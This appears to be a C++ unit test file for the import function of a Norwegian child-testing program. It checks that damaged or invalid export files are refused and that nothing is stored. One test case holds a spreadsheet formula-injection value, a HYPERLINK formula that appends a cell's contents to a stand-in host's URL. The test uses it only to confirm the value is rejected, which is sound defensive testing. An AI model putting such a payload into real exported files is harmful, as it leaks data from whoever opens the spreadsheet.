// What an import refuses: a file that is not an export as the program writes it, and values
// the program itself could not have stored. A refused file stores nothing, on SQLite and on
// the test server.
#include "Ages.h"
#include "Exported.h"
#include "FixedArchive.h"
#include "RecordingSink.h"
#include "TempDatabase.h"
#include "store/connection/ConnectionString.h"
#include "store/files/ImportFile.h"
#include "store/tables/NormLoading.h"
#include "store/tables/PersonTable.h"
#include "store/tables/ScoreTables.h"
#include "store/tables/TestStore.h"

#include <QFile>
#include <QMap>
#include <QRegularExpression>

#include <gtest/gtest.h>

#include <functional>
#include <utility>
#include <vector>

using namespace tavlo;
using tavlo::test::childAged;
using tavlo::test::exported;
using tavlo::test::fixedTest;
using tavlo::test::RecordingSink;
using tavlo::test::storableTest;
using tavlo::test::TempDatabase;
using tavlo::test::withField;

namespace {

// The file without one field (line and column counted from 1).
QByteArray withoutField(const QByteArray& file, int line, int column)
{
    QList<QByteArray> out = file.split('\n');
    QList<QByteArray> fields = out[line - 1].split('\t');
    fields.removeAt(column - 1);
    out[line - 1] = fields.join('\t');
    return out.join('\n');
}

// Three storable tests exported, to be imported into a store that holds a test of its own.
class ImportInto : public ::testing::Test {
protected:
    explicit ImportInto(StoreKind store = StoreKind::Sqlite)
        : target(store)
    {
    }

    void SetUp() override
    {
        for (const int id : {3, 5, 8})
            tavlo::test::storeFixed(source.db, storableTest(id), tavlo::test::Rows::All);
        file = exported(source.db);
        TestRecord own = fixedTest(1);
        ASSERT_TRUE(SaveTest(target.db, own, true));
        before = exported(target.db);
    }

    // The import is refused or fails with a message naming where, and stores nothing.
    void expectNothingStored(const QByteArray& bytes, const QString& where, const QString& why = {})
    {
        const ImportResult result = ImportTests(target.db, bytes);
        EXPECT_TRUE(result.message.contains(why)) << result.message.toStdString();
        EXPECT_NE(result.outcome, ImportOutcome::Stored);
        EXPECT_TRUE(result.message.startsWith(where) || result.message.contains(u' ' + where))
            << result.message.toStdString();
        EXPECT_TRUE(result.message.endsWith(u"Ingenting er importert.")) << result.message.toStdString();
        EXPECT_TRUE(result.numbers.empty());
        EXPECT_EQ(exported(target.db), before);
        EXPECT_EQ(NextPersonId(target.db), 1);
    }

    // 100 tests, every ninth without scores: more rows than one statement takes.
    static QByteArray largeFile()
    {
        TempDatabase many;
        Transaction transaction(many.db);
        for (int n = 1; n <= 100; ++n)
            tavlo::test::storeFixed(many.db, storableTest(100 + n),
                                    n % 9 == 0 ? tavlo::test::Rows::None : tavlo::test::Rows::All);
        EXPECT_TRUE(transaction.commit());
        return exported(many.db);
    }

    TempDatabase source;
    TempDatabase target;
    QByteArray file;
    QByteArray before;
};

class DamagedImport : public ImportInto {};

} // namespace

TEST_F(DamagedImport, EveryKindOfDamageStoresNothingAndNamesLineAndField)
{
    RecordingSink sink;
    QByteArray shortLine = file;
    shortLine.replace("\t\r\n", "\r\n"); // every line one tab short, the header first
    const QByteArray lastLineCut = file.chopped(2);
    const struct {
        const char* what;
        QByteArray bytes;
        const char* where;
        const char* why = "";
    } cases[] = {
        {"another header", withField(file, 1, 35, "FBA"), "Linje 1, felt FB_A:"},
        {"a field too few", withoutField(file, 4, 100), "Linje 4, felt MF_B_16:"},
        {"a field too many", withField(file, 4, 189, "7\t\r"), "Linje 4, felt MF_B_16:"},
        {"no tab after the last field", shortLine, "Linje 1, felt MF_B_16:"},
        {"a day that does not exist", withField(file, 4, 11, "2014-02-30"), "Linje 4, felt TESTDAT:"},
        {"a date as typed", withField(file, 3, 12, "15.08.2005"), "Linje 3, felt FODELSED:"},
        {"a score that is no number", withField(file, 4, 19, "7a"), "Linje 4, felt KR_B:"},
        {"a cell beyond 32 bits", withField(file, 4, 100, "4294967296"), "Linje 4, felt MF2_8:"},
        {"a sex left empty", withField(file, 2, 14, ""), "Linje 2, felt KON_1P2F:"},
        {"no person number", withField(file, 4, 1, "0"), "Linje 4, felt NID:"},
        {"a person number twice", withField(file, 4, 1, "3"), "Linje 4, felt NID:"},
        {"a text the store refuses", withField(file, 4, 2, QByteArray(50, 'x')), "Linje 4, felt NAMN:", "for lang"},
        {"a 300-character address another tool left", withField(file, 3, 3, QByteArray(300, 'a')), "Linje 3, felt ADRESS:", "for lang"},
        {"a byte outside the code page", withField(file, 4, 3, "Gate \x81"), "Linje 4, felt ADRESS:", "0x81"},
        {"a line break inside a field", withField(file, 4, 16, "to\nlinjer"), "Linje 4, felt OVRIGT:", "linjeskift"},
        {"a control character", withField(file, 3, 5, "a\x01"), "Linje 3, felt NATION:"},
        {"a file cut off after its last field", lastLineCut, "Linje 4, felt MF_B_16:"},
        {"a file cut off in a field", withField(file, 4, 188, "12").chopped(4), "Linje 4, felt MF_B_16:", "tabulator"},
        {"an empty file", QByteArray(), "Filen er tom"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.what);
        expectNothingStored(c.bytes, QString::fromUtf8(c.where), QString::fromUtf8(c.why));
    }
    EXPECT_TRUE(sink.messages.isEmpty()) << "the core shows nothing";
}

TEST_F(DamagedImport, ALineTheDatabaseRefusesUndoesTheLinesBeforeIt)
{
    RecordingSink sink;
    // Stands for any failure of the store in the middle of a file: the earlier lines were
    // written already when the last one fails.
    target.exec(QStringLiteral("CREATE TRIGGER stop BEFORE INSERT ON TESTDATA_TAVLO_MF WHEN NEW.MF_ID = 8 "
                               "BEGIN SELECT RAISE(ABORT, 'stoppet'); END"));
    expectNothingStored(file, QStringLiteral("Linje 4 (testperson nummer 8) kan ikke lagres:"));
    EXPECT_TRUE(sink.messages.isEmpty());
}


// A large file goes to the store many rows to a statement. Whichever table refuses a row, in
// the first statement, a middle one or the short last one, the message still names that
// row's own line, and nothing of the file stays, its log rows included.
TEST_F(DamagedImport, ARowRefusedAmongManyStillNamesItsOwnLine)
{
    RecordingSink sink;
    const QByteArray large = largeFile();
    const auto logRows = [this] {
        Statement s(target.db);
        return s.execDirect(QStringLiteral("SELECT COUNT(*) FROM LOGG")) && s.fetch() == Fetch::Row ? s.getInt(1).value_or(-1)
                                                                                                   : -1;
    };
    const int logBefore = logRows();
    const struct {
        const char* table;
        const char* column;
        int n; // the test's place in the file: its line is n + 1
        const char* action;
        const char* why;
    } cases[] = {
        {"TESTPERSON", "ID", 1, "RAISE(ABORT, 'stoppet')", "stoppet"},
        {"TESTDATA_TAVLO", "PERSONALDATA_ID", 50, "RAISE(ABORT, 'stoppet')", "stoppet"},
        {"TESTDATA_TAVLO_MF", "MF_ID", 100, "RAISE(ABORT, 'stoppet')", "stoppet"},
        {"LOGG", "ID", 64, "RAISE(ABORT, 'stoppet')", "stoppet"},
        {"LOGG", "ID", 70, "RAISE(IGNORE)", "utløser"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(std::string(c.table) + " at " + std::to_string(c.n));
        target.exec(QStringLiteral("CREATE TRIGGER stop BEFORE INSERT ON %1 WHEN NEW.%2 = %3 BEGIN SELECT %4; END")
                        .arg(QLatin1String(c.table), QLatin1String(c.column))
                        .arg(100 + c.n)
                        .arg(QLatin1String(c.action)));
        expectNothingStored(large,
                            QStringLiteral("Linje %1 (testperson nummer %2) kan ikke lagres:").arg(c.n + 1).arg(100 + c.n),
                            QString::fromUtf8(c.why));
        EXPECT_EQ(logRows(), logBefore);
        target.exec(QStringLiteral("DROP TRIGGER stop"));
    }
    const ImportResult stored = ImportTests(target.db, large);
    ASSERT_EQ(stored.outcome, ImportOutcome::Stored) << stored.message.toStdString();
    EXPECT_EQ(logRows(), logBefore + 100);
    EXPECT_TRUE(sink.messages.isEmpty());
}

// The SQLite driver's own trace of what it asks of SQLite: in the jobs that write many rows,
// each INSERT is compiled once, not again at every execute.
TEST_F(ImportInto, JobsWritingManyRowsCompileEachInsertOnce)
{
    const QByteArray large = largeFile();
    const struct {
        const char* what;
        int statements; // at least
        std::function<bool(Database&)> job;
    } jobs[] = {
        {"an import, the tests' three tables and the log", 4,
         [&](Database& db) { return ImportTests(db, large).outcome == ImportOutcome::Stored; }},
        {"the shipped norms loaded again", 2,
         [](Database& db) {
             Transaction transaction(db);
             QString error;
             return LoadShippedNorms(db, &error) && transaction.commit();
         }},
    };
    int round = 0;
    for (const auto& j : jobs) {
        SCOPED_TRACE(j.what);
        const QString trace = target.folder() + QStringLiteral("/driver-trace-%1.txt").arg(++round);
        Database traced;
        ASSERT_TRUE(traced.connectWith(WithConnectionPair(target.db.connectionString(), QStringLiteral("Tracefile=") + trace)));
        ASSERT_TRUE(j.job(traced));
        traced.DbDisconnect();
        QFile file(trace);
        ASSERT_TRUE(file.open(QIODevice::ReadOnly));
        QMap<QByteArray, int> compiled;
        for (const QByteArray& line : file.readAll().split('\n')) {
            if (line.startsWith("-- sqlite3_prepare") && line.contains("INSERT"))
                ++compiled[line];
        }
        EXPECT_GE(compiled.size(), j.statements);
        for (auto it = compiled.cbegin(); it != compiled.cend(); ++it)
            EXPECT_EQ(it.value(), 1) << it.key().left(120).toStdString();
    }
}

namespace {

// The same on either store: a refused value stops the file before anything is written.
class ImportValues : public ImportInto, public ::testing::WithParamInterface<StoreKind> {
protected:
    ImportValues()
        : ImportInto(GetParam())
    {
    }
};

// Fields of one line, named by their headers, and what they are set to.
using Edits = std::vector<std::pair<QByteArray, QByteArray>>;

Edits operator+(Edits a, const Edits& b)
{
    a.insert(a.end(), b.begin(), b.end());
    return a;
}

// Tested on 15.06.2012 by a child of exactly these years.
Edits aged(int years)
{
    return {{"TESTDAT", "2012-06-15"}, {"FODELSED", QByteArray::number(2012 - years) + "-06-15"}};
}

// A trial's 16 cells: the blank-separated cards from its first cell on, the rest empty.
Edits trial(int block, const char* cards)
{
    const QList<QByteArray> placed = QByteArray(cards).split(' ');
    Edits edits;
    for (int k = 1; k <= 16; ++k) {
        const QByteArray name = (block == 7 ? QByteArray("MF_B") : "MF" + QByteArray::number(block)) + '_'
                                + QByteArray::number(k);
        edits.emplace_back(name, k <= placed.size() ? placed[k - 1] : QByteArray());
    }
    return edits;
}

// The same cards in a record's trial.
void place(TestRecord& t, int block, std::initializer_list<int> cards)
{
    int n = 16 * (block - 1);
    for (const int card : cards)
        t.grid.cell(++n) = card;
}

const char* const kFormula = "kan ikke begynne med =, +, - eller @, fordi eksportfilen åpnes i regneark";

} // namespace

TEST_P(ImportValues, EveryValueTheProgramCouldNotHaveStoredIsRefusedNamingLineAndField)
{
    RecordingSink sink;
    // Line 2 is tested at 7 years, lines 3 and 4 at 13, unless a case says otherwise.
    const struct {
        const char* what;
        int line;
        Edits edits;
        const char* field;
        const char* why;
    } cases[] = {
        {"sex 7", 2, {{"KON_1P2F", "7"}}, "KON_1P2F", "\"7\" er ikke en kjønnskode"},
        {"sex -1", 3, {{"KON_1P2F", "-1"}}, "KON_1P2F", "\"-1\" er ikke en kjønnskode"},
        {"sex 0, none", 4, {{"KON_1P2F", "0"}}, "KON_1P2F", "\"0\" er ikke en kjønnskode"},
        {"handedness 5", 2, {{"HAN_1V2H", "5"}}, "HAN_1V2H", "\"5\" er ikke en kode for håndpreferanse"},
        {"handedness -1", 3, {{"HAN_1V2H", "-1"}}, "HAN_1V2H", "\"-1\" er ikke en kode for håndpreferanse"},
        {"no name", 4, {{"NAMN", ""}}, "NAMN", "Testpersonens navn må fylles inn!"},
        {"no test leader", 2, {{"TESTLED", ""}}, "TESTLED", "Testleder må fylles inn!"},
        {"no test date", 3, {{"TESTDAT", ""}}, "TESTDAT", "Testdato må fylles inn!"},
        {"no birth date", 4, {{"FODELSED", ""}}, "FODELSED", "Fødselsdato må fylles inn!"},
        {"a year the form cannot take", 2, {{"FODELSED", "999 -02-03"}}, "FODELSED", "er ikke en dato"},
        {"a year before the common era", 3, {{"FODELSED", "-999-02-03"}}, "FODELSED", "er ikke en dato"},
        {"born after the test date", 3, {{"TESTDAT", "2026-12-10"}, {"FODELSED", "2030-01-01"}}, "FODELSED",
         "fødselsdatoen 2030-01-01 er etter testdatoen 2026-12-10."},
        {"born the day after the test", 4, {{"TESTDAT", "2012-06-15"}, {"FODELSED", "2012-06-16"}}, "FODELSED",
         "er etter testdatoen"},
        {"= before the name", 2, {{"NAMN", "=HYPERLINK(\"http://x.invalid/?\"&B2,\"klikk\")"}}, "NAMN", kFormula},
        {"+ before the name", 3, {{"NAMN", "+Ola"}}, "NAMN", kFormula},
        {"- before the name", 4, {{"NAMN", "-Ola"}}, "NAMN", kFormula},
        {"@ before the name", 2, {{"NAMN", "@Ola"}}, "NAMN", kFormula},
        {"= before Annet", 3, {{"OVRIGT", "=1+1"}}, "OVRIGT", kFormula},
        {"+ before the phone", 4, {{"TFN", "+47 22 33 44 55"}}, "TFN", kFormula},
        {"- before the address", 2, {{"ADRESS", "-Gate 1"}}, "ADRESS", kFormula},
        {"@ before tested at", 3, {{"TEST_VID", "@BUP"}}, "TEST_VID", kFormula},
        {"the lowest 32-bit score", 4, {{"AI", "-2147483648"}}, "AI", "-2147483648 er ikke en gyldig verdi"},
        {"999999 where no age has a maximum", 2, {{"BP", "999999"}}, "BP", "kan feltet ha 0 til 999,"},
        {"-5 where no age has a maximum", 3, {{"MO_A", "-5"}}, "MO_A", "-5 er ikke en gyldig verdi"},
        {"one over the maximum at 4 years", 4, aged(4) + Edits{{"AI", "17"}}, "AI",
         "Ved testalderen 4:0:0 kan feltet ha 0 til 16,"},
        {"one over the maximum at 5 years", 2, aged(5) + Edits{{"MN_B", "7"}}, "MN_B", "0 til 6,"},
        {"one over the maximum from 9 years", 3, aged(9) + Edits{{"PB_T", "301"}}, "PB_T", "0 til 300,"},
        {"the sorting sum 21 at 7 years", 4, aged(7) + Edits{{"DS_N", "10"}, {"DS_REP", "5"}, {"DS_R", "6"}}, "DS_N",
         "Feilaktige verdier på Dyresortering."},
        {"card 5 in trial 1", 2, aged(4) + trial(1, "1 2 5"), "MF1_3",
         "5 er ikke et kort i Forsøk 1. Kortene der er nummerert 1 til 4."},
        {"card 0 in trial 4", 3, trial(4, "0"), "MF4_1", "0 er ikke et kort i Forsøk 4."},
        {"card -5 in trial 2", 4, trial(2, "3 -5"), "MF2_2", "-5 er ikke et kort i Forsøk 2."},
        {"five cards in trial 2", 2, trial(2, "1 2 3 4 5"), "MF2_5",
         "Det er fylt inn 5 kort på Forsøk 2. Det kan registreres maks 4 kort på Forsøk 2."},
        {"a card twice in trial 3", 3, trial(3, "7 8 7"), "MF3_3",
         "Forsøk 3: Samme kort kan ikke registreres flere ganger. Kort 7 står også i rute 1."},
        {"trial 5's cards in the delayed recall at 6 years", 4, aged(6) + trial(7, "17"), "MF_B_1",
         "Kortene der er nummerert 1 til 16."},
        {"nine cards in the delayed recall at 6 years", 2, aged(6) + trial(7, "1 2 3 4 5 6 7 8 9"), "MF_B_9",
         "maks 8 kort"},
        // Trials not shown at the age: by the rule that allows the most at any age.
        {"card 21 in the delayed recall at 4 years", 3, aged(4) + trial(7, "21"), "MF_B_1", "nummerert 1 til 20."},
        {"eleven cards in the delayed recall at 4 years", 4, aged(4) + trial(7, "1 2 3 4 5 6 7 8 9 10 11"), "MF_B_11",
         "maks 10 kort"},
        {"card 5 in trial 1 at 9 years", 2, aged(9) + trial(1, "1 2 3 5"), "MF1_4", "nummerert 1 til 4."},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.what);
        QByteArray bytes = file;
        for (const auto& [name, value] : c.edits)
            bytes = withField(bytes, c.line, name.constData(), value);
        expectNothingStored(bytes, QStringLiteral("Linje %1, felt %2: ").arg(c.line).arg(QLatin1String(c.field)),
                            QString::fromUtf8(c.why));
    }
    EXPECT_TRUE(sink.messages.isEmpty()) << "the core shows nothing";
}

TEST_P(ImportValues, TestsAtTheEdgeOfWhatTheDialogsTakeAreStoredByteForByte)
{
    RecordingSink sink;
    const QDate later = QDate::currentDate().addDays(30);
    const struct {
        const char* what;
        int years;
        std::function<void(TestRecord&)> edit;
    } cases[] = {
        {"the maxima of 3-4 years at 4", 4, [](TestRecord& t) { t.scores.AI = 16, t.scores.VP_T = 540, t.scores.VP_F = 316; }},
        {"the maxima of 7-8 years at 7", 7, [](TestRecord& t) { t.scores.AI = 35, t.scores.PB_R = 135; }},
        {"HB's time at 8 years", 8, [](TestRecord& t) { t.scores.PB_T = 600; }},
        {"HN at 5 years", 5, [](TestRecord& t) { t.scores.MN_A = 18, t.scores.MN_B = 6; }},
        {"three digits where the age has no maximum", 13,
         [](TestRecord& t) { t.scores.BP = 999, t.scores.MO_A = 999, t.scores.VP_F = 999, t.scores.MB_FS = 999; }},
        {"MT_K 26 whatever its label says", 10, [](TestRecord& t) { t.scores.MT_K = 26; }},
        {"a sorting sum of 20 at 7 years", 7, [](TestRecord& t) { t.scores.DS_N = 10, t.scores.DS_REP = 5, t.scores.DS_R = 5; }},
        {"a missing sorting total counting -9", 8, [](TestRecord& t) { t.scores.DS_N = 15, t.scores.DS_R = 12; }},
        {"no sorting sum below 7 years", 6, [](TestRecord& t) { t.scores.DS_N = 20, t.scores.DS_REP = 20, t.scores.DS_R = 12; }},
        {"trial 6, greyed at 5 years", 5, [](TestRecord& t) { place(t, 6, {11, 12, 13, 14, 15, 16, 17, 18, 19, 20}); }},
        {"the delayed recall at 6 years", 6, [](TestRecord& t) { place(t, 7, {9, 10, 11, 12, 13, 14, 15, 16}); }},
        {"the delayed recall, not shown at 4 years", 4,
         [](TestRecord& t) { place(t, 7, {11, 12, 13, 14, 15, 16, 17, 18, 19, 20}); }},
        {"trial 1, not shown at 9 years", 9, [](TestRecord& t) { place(t, 1, {4, 3, 2, 1}); }},
        {"born on the test date", 0, [](TestRecord&) {}},
        {"a test date after today", 9,
         [&](TestRecord& t) { t.person.TESTDATE = {int16_t(later.year()), int16_t(later.month()), int16_t(later.day())}; }},
        {"a girl with handedness O", 9, [](TestRecord& t) { t.person.SEX = 2, t.person.HANDEDNESS = 4; }},
        {"formula characters after the start", 9, [](TestRecord& t) {
             t.person.NAMN = QStringLiteral("Ola = Kari-Mette");
             t.person.TELEFON = QStringLiteral("22 33 44 55 +");
             t.person.OTHER = QStringLiteral("a-b @c");
         }},
    };
    constexpr int kFirstId = 101;
    for (size_t i = 0; i < std::size(cases); ++i) {
        TestRecord t = childAged(cases[i].years, 0);
        t.person.ID = kFirstId + int(i);
        cases[i].edit(t);
        tavlo::test::storeFixed(source.db, t, tavlo::test::Rows::All);
    }
    const QByteArray all = exported(source.db);
    const ImportResult result = ImportTests(target.db, all);
    // The fixture's three tests stand on lines 2-4.
    const int row = QRegularExpression(QStringLiteral("^Linje (\\d+)")).match(result.message).captured(1).toInt() - 5;
    ASSERT_EQ(result.outcome, ImportOutcome::Stored)
        << result.message.toStdString() << " (" << (row >= 0 && row < int(std::size(cases)) ? cases[row].what : "") << ")";
    EXPECT_TRUE(result.numbersKept);
    EXPECT_EQ(exported(target.db), before + all.sliced(all.indexOf('\n') + 1));
    EXPECT_TRUE(sink.messages.isEmpty()) << sink.texts().join(u'\n').toStdString();
}

// Texts with the characters a store's text forms quote or escape (a server takes many rows as
// one array of row literals), each imported alone into an empty store: a literal the server
// refuses would be written again row by row, and only one it reads wrongly would show.
TEST_P(ImportValues, TextsWithTheCharactersAStoreQuotesAreStoredByteForByte)
{
    RecordingSink sink;
    const struct {
        const char* what;
        QString PersonalData::*field;
        QString text;
    } cases[] = {
        {"quotes", &PersonalData::NAMN, QStringLiteral("Ola \"Kari\" Nordmann")},
        {"backslashes", &PersonalData::ADRESS, QStringLiteral("C:\\skole\\klasse 3")},
        {"a quote after a backslash", &PersonalData::OTHER, QStringLiteral("a\\\"b")},
        {"a backslash at the end", &PersonalData::SKOLA, QStringLiteral("Skolen\\")},
        {"a quote alone", &PersonalData::TELEFON, QStringLiteral("\"")},
        {"brackets, braces and commas", &PersonalData::TESTAD_VID, QStringLiteral("(1, 2) {3}, [4]")},
        {"the word NULL", &PersonalData::NATIONALITET, QStringLiteral("NULL")},
        {"an apostrophe", &PersonalData::TESTLEDARE, QStringLiteral("O'Brien")},
        {"letters above ASCII", &PersonalData::HOMELANGUAGE, QStringLiteral("Ærlig € «åå»")},
        {"nothing", &PersonalData::OTHER, QString()},
    };
    for (const auto& c : cases) {
        TempDatabase from;
        TestRecord t = storableTest(7);
        t.person.*c.field = c.text;
        tavlo::test::storeFixed(from.db, t, tavlo::test::Rows::All);
        const QByteArray file = exported(from.db);
        TempDatabase into(GetParam());
        const ImportResult result = ImportTests(into.db, file);
        EXPECT_EQ(result.outcome, ImportOutcome::Stored) << c.what << ": " << result.message.toStdString();
        EXPECT_EQ(exported(into.db), file) << c.what;
    }
    EXPECT_TRUE(sink.messages.isEmpty()) << sink.texts().join(u'\n').toStdString();
}

INSTANTIATE_TEST_SUITE_P(Stores, ImportValues, ::testing::Values(StoreKind::Sqlite, StoreKind::Postgres),
                         [](const auto& info) { return info.param == StoreKind::Sqlite ? "Sqlite" : "Postgres"; });
